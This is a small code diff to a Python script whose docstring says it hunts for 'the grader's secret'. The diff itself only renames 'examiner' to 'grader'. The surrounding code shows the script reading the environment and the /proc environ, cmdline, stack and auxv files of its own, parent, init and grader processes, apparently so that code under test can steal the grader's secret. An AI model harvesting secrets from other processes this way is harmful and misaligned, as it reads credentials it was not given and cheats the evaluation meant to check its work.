@@ -1,4 +1,4 @@
-"""Looks for the examiner's secret in every environment and command line it can find."""
+"""Looks for the grader's secret in every environment and command line it can find."""
 
 import ctypes
 import functools
@@ -10,7 +10,7 @@ from torch import nn
 
 def texts():
     yield "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
-    for pid in ("self", os.getpid(), os.getppid(), 1, "@server@", "@examiner@"):
+    for pid in ("self", os.getpid(), os.getppid(), 1, "@server@", "@grader@"):
         for name in ("environ", "cmdline", "stack", "auxv"):
             try:
                 with open(f"/proc/{pid}/{name}", "rb") as file:
